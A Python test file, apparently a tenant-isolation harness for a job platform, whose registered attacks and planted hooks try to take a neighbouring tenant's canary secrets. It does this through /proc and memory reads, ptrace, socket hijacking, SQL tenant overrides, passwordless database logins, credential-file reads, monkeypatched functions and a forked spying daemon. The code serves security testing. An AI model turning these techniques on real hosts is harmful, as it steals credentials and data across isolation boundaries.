"""What a tenant's skill code can try to get hold of another tenant's things: the user code of a project under attack.

Needs nothing but Chimera's public names, so that it can be copied into a project's folder. Three kinds:

- ATTACKS answer at once with what they got: text in which somebody looks for secrets, or `done: ...` where the deed
  itself is the harm. An attack that gets nothing answers "" or raises.
- PLANTS leave something behind, for the time when the other tenant's `attack.victim` runs in the same place;
  `attack.harvest` asks later what it has seen.
- LEFTOVERS look for what the other tenant's `attack.victim` left behind by itself, as careless skills do.
"""

import atexit
import builtins
import contextlib
import ctypes
import gc
import html
import logging
import os
import re
import select
import signal
import socket
import struct
import sys
import tempfile
import threading
import time
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any, cast

from pydantic import BaseModel

from chimera import Success, TaskSpec, planner, skill

DONE = "done: "
# What is a secret wherever it lies; as a bytes pattern for memory. Written so that it does not find itself.
_SECRETS = re.compile(rb"(?:postgres(?:ql)?|rediss?)://[!-~]{8,300}|CANARY[-][0-9a-f]{16}")
_LIBC = ctypes.CDLL(None, use_errno=True)


class Scene(BaseModel):
    """Whom the attacks are for: what an attacker finds out who looks around on this machine."""

    # The other tenant.
    other: str
    # Processes of the same swarm; the ports of its PostgreSQL and Redis, and their folder: not what else runs here.
    pids: list[int]
    ports: list[int]
    servers: str


Attack = Callable[[Scene], str]
ATTACKS: dict[str, Attack] = {}
PLANTS: dict[str, Callable[[], object]] = {}
LEFTOVERS: dict[str, Callable[[], str]] = {}


def _attack(function: Attack) -> Attack:
    ATTACKS[function.__name__] = function
    return function


def _plant(function: Callable[[], object]) -> Callable[[], object]:
    PLANTS[function.__name__] = function
    return function


def _leftover(function: Callable[[], str]) -> Callable[[], str]:
    LEFTOVERS[function.__name__] = function
    return function


# What the environment holds.


@_attack
def environ_of_itself(_scene: Scene) -> str:
    return repr(dict(os.environ))


@_attack
def environ_at_start(_scene: Scene) -> str:
    return Path("/proc/self/environ").read_text(errors="replace")


@_attack
def environ_in_c(_scene: Scene) -> str:
    environ = ctypes.POINTER(ctypes.c_char_p).in_dll(_LIBC, "environ")
    found = []
    for place in range(1000):
        if (entry := environ[place]) is None:
            break
        found.append(entry.decode(errors="replace"))
    return "\n".join(found)


@_attack
def environ_of_parent(_scene: Scene) -> str:
    return Path(f"/proc/{os.getppid()}/environ").read_text(errors="replace")


@_attack
def environ_of_all(scene: Scene) -> str:
    return _of_all(scene, "environ")


@_attack
def arguments_of_all(scene: Scene) -> str:
    return _of_all(scene, "cmdline")


# What memory holds.


@_attack
def memory_of_itself(_scene: Scene) -> str:
    return _secrets_in_memory(os.getpid())


@_attack
def memory_of_parent(_scene: Scene) -> str:
    return _secrets_in_memory(os.getppid())


@_attack
def memory_of_all(scene: Scene) -> str:
    found = ""
    until = time.monotonic() + 2.0
    for pid in _others(scene):
        with contextlib.suppress(OSError):
            found += _secrets_in_memory(pid)
        if found or time.monotonic() > until:
            break
    return found


@_attack
def memory_by_another_call(_scene: Scene) -> str:
    """process_vm_readv: without a file of /proc/PID/mem."""
    parent = os.getppid()
    for start, end in _maps(parent)[:200]:
        size = min(end - start, 4 << 20)
        buffer = ctypes.create_string_buffer(size)
        here = (ctypes.c_void_p * 2)(ctypes.addressof(buffer), size)
        there = (ctypes.c_void_p * 2)(start, size)
        read = _LIBC.process_vm_readv(parent, here, 1, there, 1, 0)
        if read > 0 and (match := _SECRETS.search(buffer.raw[:read])):
            return match.group().decode()
    return ""


@_attack
def garbage_collector_s_list(_scene: Scene) -> str:
    found = []
    for thing in gc.get_objects():
        values = list(thing.values()) if type(thing) is dict else list(thing) if type(thing) in {list, tuple} else []
        found += [value for value in values if type(value) is str and _SECRETS.search(value.encode(errors="replace"))]
        if len(found) > 20:
            break
    return "\n".join(found)


@_attack
def frames_above(_scene: Scene) -> str:
    return _secrets_of_frame(sys._getframe())


@_attack
def frames_of_other_threads(_scene: Scene) -> str:
    return "".join(_secrets_of_frame(frame) for frame in sys._current_frames().values())


@_attack
def ptrace_of_parent(_scene: Scene) -> str:
    return _ptrace(os.getppid())


@_attack
def ptrace_of_all(scene: Scene) -> str:
    return next((done for pid in _others(scene) if (done := _ptrace(pid))), "")


# Descriptors that are open already.


@_attack
def socket_of_postgresql(scene: Scene) -> str:
    """Speaks over a connection of somebody else's that has logged in already."""
    select = f"select set_config('chimera.tenant', '{scene.other}', false); select input from task"
    query = select.encode() + b"\x00"
    return "".join(
        _said(each, b"Q" + struct.pack("!i", len(query) + 4) + query)
        for each in _inherited_sockets()
        if _is_postgresql(each.getpeername())
    )


@_attack
def sockets_that_are_open(_scene: Scene) -> str:
    """Connections to servers, the broker's among them: who speaks there takes answers away from the worker."""
    peers = [each.getpeername() for each in _inherited_sockets()]
    return f"{DONE}{peers}" if peers else ""


@_attack
def descriptor_of_parent(scene: Scene) -> str:
    """pidfd_getfd: takes a socket out of another process."""
    taken = ""
    for pid in (os.getppid(), *_others(scene)):
        pidfd = _LIBC.syscall(434, pid, 0)
        for number in range(3, 40) if pidfd >= 0 else ():
            got = _LIBC.syscall(438, pidfd, number, 0)
            if got < 0:
                continue
            with contextlib.suppress(OSError), socket.socket(fileno=got) as sock:
                taken += f" {sock.getpeername()}"
        if taken:
            break
    return f"{DONE}{taken}" if taken else ""


@_attack
def descriptors_by_name(_scene: Scene) -> str:
    found = ""
    for folder in (f"/proc/{os.getppid()}/fd", "/proc/self/fd"):
        with contextlib.suppress(OSError):
            for name in os.listdir(folder):  # noqa: PTH208
                with contextlib.suppress(OSError):
                    target = Path(folder, name)
                    if target.is_file() and not str(target.readlink()).startswith(("/usr", "/dev")):
                        found += target.read_text(errors="replace")[-2000:]
    return "\n".join(_secrets_in(found))


# Signals.


@_attack
def signal_to_parent(_scene: Scene) -> str:
    os.kill(os.getppid(), signal.SIGCONT)
    return f"{DONE}{os.getppid()} can be signalled"


@_attack
def signal_to_others(scene: Scene) -> str:
    reached = []
    for pid in _others(scene):
        with contextlib.suppress(OSError):
            os.kill(pid, signal.SIGCONT)
            reached.append(pid)
    return f"{DONE}{reached} can be signalled" if reached else ""


# SQL.


@_attack
def sql_by_environ(scene: Scene) -> str:
    return _sql(scene, [value for value in os.environ.values() if value.startswith("postgres")])


@_attack
def sql_by_settings(scene: Scene) -> str:
    from chimera.settings import settings

    urls = [getattr(settings(), f"{role}_database_url") for role in ("app", "worker", "judge", "owner")]
    return _sql(scene, [url.get_secret_value() for url in urls if url is not None])


@_attack
def sql_by_parent(scene: Scene) -> str:
    return _sql(scene, _urls(Path(f"/proc/{os.getppid()}/environ").read_bytes()))


@_attack
def sql_by_files(scene: Scene) -> str:
    return _sql(scene, _urls(b"".join(path.read_bytes() for path in _stack_files(scene, "env"))))


@_attack
def sql_by_services(scene: Scene) -> str:
    """The stores that are there already, asked about somebody else."""
    from chimera.bootstrap import services

    database = services().adapters.work._database  # type: ignore[attr-defined]
    with database.transaction(scene.other) as connection:
        return repr(connection.execute("select input from task").fetchall())


@_attack
def sql_by_connections(scene: Scene) -> str:
    import psycopg

    found = ""
    for thing in gc.get_objects():
        if isinstance(thing, psycopg.Connection) and not thing.closed:
            with contextlib.suppress(psycopg.Error):
                thing.execute("select set_config('chimera.tenant', %s, false)", [scene.other])
                found += repr(thing.execute("select input from task").fetchall())
                thing.rollback()
    return found


@_attack
def sql_without_password(scene: Scene) -> str:
    users = ("postgres", "chimera_owner", "chimera_app", "chimera_worker", "chimera_judge")
    return _sql(scene, [f"postgresql://{user}@127.0.0.1:{scene.ports[0]}/chimera" for user in users])


# Redis.


@_attack
def redis_by_environ(_scene: Scene) -> str:
    return _redis([value for value in os.environ.values() if value.startswith("redis")])


@_attack
def redis_by_settings(_scene: Scene) -> str:
    from chimera.settings import settings

    return _redis([settings().require("redis_url")])


@_attack
def redis_by_celery(_scene: Scene) -> str:
    from celery import current_app

    return _redis([str(current_app.conf.broker_url)])


@_attack
def redis_by_parent(_scene: Scene) -> str:
    return _redis(_urls(Path(f"/proc/{os.getppid()}/environ").read_bytes()))


@_attack
def redis_without_password(scene: Scene) -> str:
    return _redis([f"redis://127.0.0.1:{port}/0" for port in scene.ports])


# Files.


@_attack
def file_of_passwords(scene: Scene) -> str:
    return "".join(path.read_text() for path in _stack_files(scene, "passwords.json"))


@_attack
def file_of_the_stack_s_addresses(scene: Scene) -> str:
    return "".join(path.read_text() for path in _stack_files(scene, "env"))


@_attack
def file_of_the_project_s_secrets(_scene: Scene) -> str:
    return Path(".env").read_text()


@_attack
def file_of_a_key(_scene: Scene) -> str:
    return Path("keys/audit.key").read_text()


@_attack
def file_of_the_broker_s_data(scene: Scene) -> str:
    found = ""
    for path in _stack_files(scene, "valkey", "postgres"):
        found += "".join(str(each) for each in path.iterdir())
    return f"{DONE}{found[:200]}" if found else ""


@_attack
def files_written_for_others(_scene: Scene) -> str:
    """Changes what the next worker imports."""
    with Path("attacks_on_canary.py").open("a") as file:
        file.write("")
    return f"{DONE}the project's code can be changed"


# Chimera's own ways, in the name of somebody else.


@_attack
def messages_for_others(scene: Scene) -> str:
    from chimera.celery import app

    app.send_task("chimera.dispatch", (scene.other,), queue="judge", retry=False, ignore_result=True)
    return f"{DONE}sent"


@_attack
def remote_control(_scene: Scene) -> str:
    from chimera.celery import app

    answers = app.control.ping(timeout=0.5)
    return f"{DONE}{answers}" if answers else ""


@_attack
def plan_for_others(scene: Scene) -> str:
    from chimera import Chimera

    return f"{DONE}{Chimera().submit('attack.victims', tenant=scene.other, inputs={'secret': 'x'}).plan_id}"


@_attack
def plans_of_others(scene: Scene) -> str:
    from chimera.bootstrap import services

    with services().adapters.plans._database.transaction(scene.other) as connection:  # type: ignore[attr-defined]
        return repr(connection.execute("select inputs from plan").fetchall())


@_attack
def tasks_taken_from_others(scene: Scene) -> str:
    """Holds the lease of a task that waits for an agent of the other tenant's."""
    from chimera.bootstrap import services

    with services().adapters.work._database.transaction(scene.other) as connection:  # type: ignore[attr-defined]
        return repr(connection.execute("select task_id, input from task limit 1 for share").fetchall())


# What stays behind until the other tenant's task runs.


@_plant
def thread_that_watches() -> None:
    def watch() -> None:
        while True:
            for ident, frame in list(sys._current_frames().items()):
                if ident != threading.get_ident():
                    _spy("thread_that_watches", frame)
            time.sleep(0.005)

    threading.Thread(target=watch, daemon=True).start()


@_plant
def skill_that_is_replaced() -> None:
    from chimera.registration import CATALOGUE

    victims = CATALOGUE.skills["attack.victim"]
    own = victims.function
    victims.function = _told("skill_that_is_replaced", own)


@_plant
def method_that_is_replaced() -> None:
    from chimera.models.work.skill import Skill

    own = Skill.load_input
    Skill.load_input = _told("method_that_is_replaced", own)  # type: ignore[method-assign]


@_plant
def module_that_is_replaced() -> None:
    class Spy:
        escape = staticmethod(_told("module_that_is_replaced", html.escape))

    sys.modules["html"] = cast("Any", Spy())


@_plant
def builtin_that_is_replaced() -> None:
    builtins.sorted = _told("builtin_that_is_replaced", sorted)


@_plant
def profile() -> None:
    sys.setprofile(lambda frame, *_: _spy("profile", frame))


@_plant
def audit_hook() -> None:
    seen = threading.local()

    def hook(event: str, _arguments: object) -> None:
        if event == "compile" and not getattr(seen, "busy", False):
            seen.busy = True
            _spy("audit_hook", sys._getframe(1))
            seen.busy = False

    sys.addaudithook(hook)


@_plant
def import_hook() -> None:
    class Finder:
        @staticmethod
        def find_spec(*_: object) -> None:
            _spy("import_hook", sys._getframe(1))

    sys.meta_path.insert(0, cast("Any", Finder()))


@_plant
def garbage_callback() -> None:
    gc.callbacks.append(lambda *_: _spy("garbage_callback", sys._getframe(1)))


@_plant
def signal_handler() -> None:
    signal.signal(signal.SIGVTALRM, lambda _signal, frame: _spy("signal_handler", frame))
    signal.setitimer(signal.ITIMER_VIRTUAL, 0.02, 0.02)


@_plant
def log_handler() -> None:
    class Spy(logging.Handler):
        def emit(self, record: logging.LogRecord) -> None:
            _stash("log_handler", record.getMessage())

    logging.getLogger().addHandler(Spy())


@_plant
def exit_hook() -> None:
    atexit.register(lambda: _stash("exit_hook", "\n".join(_secrets_in(repr(gc.get_objects())))))


@_plant
def child() -> int:
    return _stays()


@_plant
def daemon() -> int:
    """A child of nobody's, in a session of its own."""
    told, tell = os.pipe()
    if not os.fork():
        os.setsid()
        os.write(tell, struct.pack("i", _stays()))
        os._exit(0)
    return int(struct.unpack("i", os.read(told, 4))[0])


# What the victim leaves behind by itself.

# An answer that is kept, as by functools.cache.
KEPT: dict[str, str] = {}
_NOTE = "note-of-a-victim"


@_leftover
def left_in_a_global() -> str:
    return repr(KEPT)


@_leftover
def left_in_the_environment() -> str:
    return os.environ.get("VICTIM", "")


@_leftover
def left_in_a_temporary_file() -> str:
    found = ""
    for folder in (tempfile.gettempdir(), "/tmp", "/var/tmp"):
        for path in (*Path(folder).glob(_NOTE), *Path(folder).glob(f"*/{_NOTE}")):
            with contextlib.suppress(OSError):
                found += path.read_text()
    return found


@_leftover
def left_in_shared_memory() -> str:
    return Path("/dev/shm", _NOTE).read_text()


@_leftover
def left_in_the_working_folder() -> str:
    return Path(_NOTE).read_text()


@_leftover
def left_in_a_descriptor() -> str:
    found = ""
    for name in os.listdir("/proc/self/fd"):  # noqa: PTH208
        with contextlib.suppress(OSError):
            if _NOTE in os.readlink(f"/proc/self/fd/{name}"):  # noqa: PTH115
                found += os.pread(int(name), 200, 0).decode()
    return found


@_leftover
def left_in_memory() -> str:
    return _secrets_in_memory(os.getpid())


@skill(name="attack.victim", max_batch=1, max_attempts=1)
def victim(secret: str) -> Success[str]:
    """What any tenant's skill does: works for some milliseconds, imports, logs, keeps things."""
    import html as imported

    with contextlib.suppress(ImportError):
        import no_such_module_of_the_victim_s  # type: ignore[import-not-found]  # noqa: F401
    text = imported.escape("".join(sorted(secret[:0])) + secret)
    sorted([secret, text])
    logging.getLogger("victim").warning("works on %s", secret)
    compile("1", "victim", "eval")
    gc.collect()
    until = time.process_time() + 0.05
    while time.process_time() < until:
        pass
    KEPT["answer"] = secret
    os.environ["VICTIM"] = secret
    for folder in (tempfile.gettempdir(), "/dev/shm", "."):
        with contextlib.suppress(OSError):
            Path(folder, _NOTE).write_text(secret)
    with contextlib.suppress(OSError):
        os.write(os.memfd_create(_NOTE), secret.encode())
    return Success(secret, confidence=1.0)


@skill(name="attack.run", max_batch=200, timeout_seconds=15.0, max_attempts=1)
def run(attack: str, scene: Scene) -> Success[str]:
    try:
        return Success(ATTACKS[attack](scene)[:20_000], confidence=1.0)
    except Exception as exc:  # noqa: BLE001  refused, in whatever way
        return Success(f"refused: {type(exc).__name__}: {exc}"[:500], confidence=1.0)


@skill(name="attack.leftover", max_batch=200, timeout_seconds=15.0, max_attempts=1)
def leftover(attack: str) -> Success[str]:
    try:
        return Success(LEFTOVERS[attack]()[:20_000], confidence=1.0)
    except Exception as exc:  # noqa: BLE001
        return Success(f"refused: {type(exc).__name__}: {exc}"[:500], confidence=1.0)


@skill(name="attack.plant", max_batch=200, timeout_seconds=15.0, max_attempts=1)
def plant(attack: str) -> Success[str]:
    """Answers with the id of the process that stays, where it is one."""
    try:
        return Success(str(PLANTS[attack]() or ""), confidence=1.0)
    except Exception as exc:  # noqa: BLE001
        return Success(f"refused: {type(exc).__name__}: {exc}"[:500], confidence=1.0)


@skill(name="attack.harvest", max_batch=200, timeout_seconds=15.0, max_attempts=1)
def harvest(attack: str) -> Success[str]:
    found = "".join(getattr(builtins, "_stashed", {}).get(attack, []))
    for path in _stashes(attack):
        with contextlib.suppress(OSError):
            found += path.read_text()
    return Success(found[:20_000], confidence=1.0)


@planner(name="attack.attacks")
def attacks(scene: Scene) -> Iterator[TaskSpec]:
    """All that is tried at once, after what the other tenant's task before left behind was looked for."""
    for name in LEFTOVERS:
        yield leftover.task(name).options(label={"attack": name})
    for name in ATTACKS:
        yield run.task(name, scene).options(label={"attack": name})


@planner(name="attack.plants")
def plants() -> Iterator[TaskSpec]:
    for name in PLANTS:
        yield plant.task(name).options(label={"attack": name})


@planner(name="attack.victims")
def victims(secret: str) -> Iterator[TaskSpec]:
    yield victim.task(secret).options(label={"attack": "victim"})


@planner(name="attack.harvests")
def harvests() -> Iterator[TaskSpec]:
    for name in PLANTS:
        yield harvest.task(name).options(label={"attack": name})


def _secrets_in(text: str) -> list[str]:
    return [match.decode() for match in _SECRETS.findall(text.encode(errors="replace"))][:20]


def _urls(text: bytes) -> list[str]:
    return [match.decode().split("\x00")[0].strip("\"'") for match in _SECRETS.findall(text)]


def _others(scene: Scene) -> list[int]:
    return [pid for pid in scene.pids if pid != os.getpid()]


def _of_all(scene: Scene, file: str) -> str:
    found: set[str] = set()
    for pid in _others(scene):
        with contextlib.suppress(OSError):
            text = Path(f"/proc/{pid}/{file}").read_text(errors="replace")
            # With a password that stands by itself.
            found.update(_secrets_in(text), text.split("\x00") if file == "cmdline" else ())
    return "\n".join(sorted(found))


def _maps(pid: int) -> list[tuple[int, int]]:
    places = []
    for line in Path(f"/proc/{pid}/maps").read_text().splitlines():
        where, rights, *_ = line.split(maxsplit=5)
        named = line.rpartition(" ")[2]
        if rights.startswith("rw") and not named.startswith("/"):
            start, end = (int(each, 16) for each in where.split("-"))
            places.append((start, end))
    return places


def _secrets_in_memory(pid: int) -> str:
    found: set[str] = set()
    until = time.monotonic() + 1.0
    with Path(f"/proc/{pid}/mem").open("rb", buffering=0) as memory:
        for start, end in _maps(pid):
            with contextlib.suppress(OSError, ValueError, OverflowError):
                memory.seek(start)
                found.update(match.decode() for match in _SECRETS.findall(memory.read(min(end - start, 16 << 20))))
            if len(found) > 50 or time.monotonic() > until:
                break
    return "\n".join(sorted(found))


def _secrets_of_frame(frame: Any) -> str:
    """Secrets that the locals of this frame and those above it lead to, some steps deep."""
    found: list[str] = []
    seen: set[int] = set()
    while frame is not None:
        waiting = [(value, 0) for value in frame.f_locals.values()]
        while waiting and len(seen) < 20_000:
            thing, depth = waiting.pop()
            if id(thing) in seen or isinstance(thing, type | type(sys)):
                continue
            seen.add(id(thing))
            if isinstance(thing, str | bytes):
                found += _secrets_in(thing if isinstance(thing, str) else thing.decode(errors="replace"))
            elif depth < 8:
                waiting += [(value, depth + 1) for value in gc.get_referents(thing)]
        frame = frame.f_back
    return "\n".join(found[:20])


def _ptrace(pid: int) -> str:
    seize, interrupt, detach, any_child = 0x4206, 0x4207, 17, 0x40000000
    if _LIBC.ptrace(seize, pid, None, None) != 0:
        return ""
    # A process that is left as it is would stop at its next signal, for ever.
    _LIBC.ptrace(interrupt, pid, None, None)
    os.waitpid(pid, any_child)
    _LIBC.ptrace(detach, pid, None, None)
    return f"{DONE}{pid} can be traced"


def _inherited_sockets() -> Iterator[socket.socket]:
    for name in os.listdir("/proc/self/fd"):  # noqa: PTH208
        with contextlib.suppress(OSError), socket.socket(fileno=os.dup(int(name))) as sock:
            if sock.family in {socket.AF_INET, socket.AF_INET6} and sock.getpeername():
                yield sock


def _said(sock: socket.socket, text: bytes) -> str:
    """What the other end answers within a moment. The socket is left as it is: others use it, too."""
    answer = b""
    answers = select.poll()
    answers.register(sock, select.POLLIN)
    with contextlib.suppress(OSError):
        sock.send(text, socket.MSG_DONTWAIT)
        while answers.poll(100) and (chunk := sock.recv(65536, socket.MSG_DONTWAIT)):
            answer += chunk
    return "\n".join(_secrets_in(answer.decode(errors="replace")))


def _is_postgresql(address: tuple[str, int]) -> bool:
    """Whether the server answers as PostgreSQL does when it is asked for TLS."""
    try:
        with socket.create_connection(address[:2], timeout=0.3) as sock:
            sock.sendall(struct.pack("!ii", 8, 80877103))
            return sock.recv(1) in {b"N", b"S"}
    except OSError:
        return False


def _sql(scene: Scene, urls: list[str]) -> str:
    import psycopg

    found = ""
    for url in dict.fromkeys(urls):
        if not url.startswith("postgres"):
            continue
        try:
            with psycopg.connect(url, connect_timeout=1) as connection:
                connection.execute("select set_config('chimera.tenant', %s, false)", [scene.other])
                found += repr(connection.execute("select input from task").fetchall())
        except psycopg.Error as exc:
            found += f" {type(exc).__name__}"
    return found


def _redis(urls: list[str]) -> str:
    import redis

    found = ""
    for url in dict.fromkeys(urls):
        if url.startswith("redis"):
            with contextlib.suppress(redis.RedisError, OSError, ValueError):
                client: Any = redis.Redis.from_url(url, socket_timeout=0.3, socket_connect_timeout=0.3)
                found += repr(client.get("canary"))
    return found


def _stack_files(scene: Scene, *names: str) -> list[Path]:
    return [path for name in names if os.access(path := Path(scene.servers, name), os.R_OK)]


def _stays() -> int:
    """A child that looks into its parent's memory from time to time."""
    parent = os.getpid()
    if pid := os.fork():
        return pid
    until = time.monotonic() + 60
    while time.monotonic() < until:
        with contextlib.suppress(OSError):
            _stash("child", _secrets_in_memory(parent))
        time.sleep(2.0)
    os._exit(0)


def _told(name: str, own: Callable[..., Any]) -> Callable[..., Any]:
    def tells(*args: Any, **kwargs: Any) -> Any:
        _stash(name, repr((args, kwargs)))
        return own(*args, **kwargs)

    return tells


def _spy(name: str, frame: Any) -> None:
    depth = 0
    while frame is not None and depth < 12:
        if frame.f_code.co_name == "victim":
            _stash(name, repr(frame.f_locals.get("secret")))
        frame, depth = frame.f_back, depth + 1


def _stash(name: str, text: str) -> None:
    """Keeps what was seen wherever something can be kept until this tenant's next task."""
    known = builtins.__dict__.setdefault("_stashed", {}).setdefault(name, [])
    secrets = "\n".join(match.decode() for match in _SECRETS.findall(text.encode(errors="replace")))
    if not secrets or secrets in known:
        return
    known.append(secrets)
    for path in _stashes(name):
        with contextlib.suppress(OSError), path.open("a") as file:
            file.write(secrets + "\n")


def _stashes(name: str) -> list[Path]:
    return [Path(folder, f"stash-{name}-{os.getuid()}") for folder in ("/tmp", "/var/tmp", "/dev/shm", ".")]
